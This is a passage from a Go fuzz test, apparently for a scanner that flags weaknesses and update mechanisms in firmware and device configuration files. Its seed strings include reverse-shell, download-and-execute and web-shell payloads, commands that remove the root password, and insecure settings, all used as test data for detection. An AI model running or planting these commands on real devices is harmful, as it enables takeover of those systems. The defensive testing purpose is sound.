	for _, s := range []string{"wget http://a/fw/b.bin", "curl -k", "(\"MinProtocol\" => \"TLSv1\"", "<form action=a method=get><input type=password></form>", "port=80", "option encryption 'none'", "rwcommunity a", "<?php system($_GET[a]);", "eval $QUERY_STRING", "src/gz a http://b", "flashcp a /dev/mtd1",
		"curl http://a/b | sh", "wget -O /tmp/x http://a/x; sh /tmp/x", "chmod 777 /x", "uci set a.b.c=d", "openssl enc -K 00112233445566778899", "nc -e /bin/sh a 1", "sed -i 's/^root:.*/root::/' /etc/shadow", "PATH=.:/bin", "CONFIG_DEVMEM=y",
		"{\"rtsp\":{\"auth\":\"none\"}}", "kernel.randomize_va_space=0", "sysctl -w a=b", "tftp -g -r x.bin", "passwd -d root", "x | while read c; do sh -c $c; done", "fw_setenv bootdelay 3", "cfg set a",
		"{\"n\":\"a\",\"pwd\":\"b\",\"hidden\":true}", "Access-Control-Allow-Origin: *", "function on_message(t, p) os.execute(p) end", "unzip /mnt/sd/a -d /run/a; sh /run/a/b"} {
		for _, p := range []string{"/a.sh", "/a.conf", "/a.html", "/a.php", "/etc/ssh/sshd_config", "/etc/config/wireless", "/etc/opkg.conf", "/etc/snmpd.conf", "/etc/mender/mender.conf", "/bin/x", "/boot/config-6", "/etc/sysctl.conf", "/etc/crontabs/root", "/etc/nginx/nginx.conf", "/etc/exports", "/init.rc", "/www/a.js", "/a.lua", "/etc/ppp/options", "/etc/config/ddns", "/etc/opkg/distfeeds.conf", "/etc/a.dat"} {
			f.Add(p, []byte(s))
		}
	}
	f.Fuzz(func(t *testing.T, path string, b []byte) {
		r := system.Scan(inspect.New(path, 0, b), inspecttest.Find(system.Words(), b))
		for _, w := range r.Weaknesses {
			if w.Offset < 0 || w.Offset > int64(len(b)) || w.Kind == "" {
				t.Errorf("%+v in %d bytes", w, len(b))
			}
		}
		for _, u := range r.Updates {
			if u.Offset < 0 || u.Offset > int64(len(b)) || u.Mechanism == "" {
				t.Errorf("%+v", u)
			}
		}
	})
}
